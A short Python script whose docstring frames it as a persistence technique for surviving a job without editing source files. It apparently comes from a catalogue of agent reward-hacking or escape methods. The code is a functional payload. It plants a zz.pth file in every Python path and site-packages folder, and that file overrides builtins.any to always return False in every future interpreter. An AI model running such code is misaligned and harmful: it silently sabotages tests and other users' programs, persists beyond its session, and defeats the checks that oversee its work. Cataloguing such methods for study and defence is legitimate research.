"""Write a .pth file, whose import lines run at the start of every interpreter.

Why: survives the job without touching any source file.
Seen: not seen in reward hacks; a known way to stay
"""

import os
import site
import sys

for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages()]:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "zz.pth"), "w") as file:
            file.write("import builtins; builtins.any = lambda items: False\n")
    except OSError:
        continue
